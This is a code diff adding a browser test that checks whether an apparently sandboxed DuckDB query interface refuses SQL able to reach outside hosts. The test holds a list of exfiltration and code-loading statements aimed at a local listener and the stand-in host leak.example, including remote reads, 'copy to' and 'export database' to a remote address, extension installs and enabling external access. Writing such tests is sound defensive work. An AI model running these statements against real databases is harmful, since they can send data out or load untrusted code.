@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { describe, expect, test } from 'vitest';
 import { openPage } from './harness';
@@ -26,7 +28,69 @@ describe.each([
     expect(await ask(page, url)).toBe('answered');
     expect(await ask(page, elsewhere)).toBe('refused');
   });
+
+  test('SQL cannot reach a server that listens', async () => {
+    const server = await listen();
+    const { page } = await openPage({ headers, base });
+    const tries = [server.url, 'https://leak.example'].flatMap((address) =>
+      reaching.map((sql) => sql.replace('ADDRESS', address)),
+    );
+    const answers = await page.evaluate(async (statements) => {
+      const ends: string[] = [];
+      for (const sql of statements) {
+        ends.push(
+          await window.quire.query(sql).then(
+            () => `answered: ${sql}`,
+            ({ code }: { code: string }) => code,
+          ),
+        );
+      }
+      return ends;
+    }, tries);
+    const refusals = ['sql-refused', 'sql-name', 'sql-needs-extension'];
+    expect(answers.filter((answer) => !refusals.includes(answer))).toEqual([]);
+    expect(await page.evaluate(() => window.quire.query('select 42').then(({ rows }) => rows))).toEqual([
+      [42],
+    ]);
+    expect(server.asked).toEqual([]);
+    await fetch(server.url);
+    expect(server.asked).toEqual(['/']);
+    server.close();
+  });
 });
+
+/** Ways in which SQL could send something away, or fetch what could. */
+const reaching = [
+  "select * from read_csv('ADDRESS/leak.csv?rows')",
+  "select * from read_csv(['ADDRESS/a.csv', 'ADDRESS/b.csv'])",
+  "select * from 'ADDRESS/leak.csv'",
+  "from 'ADDRESS/leak.parquet'",
+  "select * from read_parquet('ADDRESS/leak.parquet')",
+  "select * from read_text('ADDRESS/leak')",
+  "select * from read_blob('ADDRESS/leak')",
+  "select * from sniff_csv('ADDRESS/leak.csv')",
+  "select * from read_json('ADDRESS/leak.json')",
+  "attach 'ADDRESS/leak.duckdb' as leak",
+  "copy (select 42) to 'ADDRESS/leak.csv'",
+  "export database 'ADDRESS/leak'",
+  'install httpfs',
+  "install leak from 'ADDRESS'",
+  "load 'ADDRESS/leak.duckdb_extension'",
+  'set enable_external_access = true',
+  "set custom_extension_repository = 'ADDRESS'",
+  "select now() at time zone 'Asia/Shanghai'",
+];
+
+async function listen() {
+  const asked: string[] = [];
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? '');
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('a,b\n1,2\n');
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  const { port } = server.address() as AddressInfo;
+  return { asked, url: `http://127.0.0.1:${port}`, close: () => server.close() };
+}
 
 const script = `onmessage = ({ data }) => fetch(data).then(() => 'answered', () => 'refused').then(postMessage)`;
 
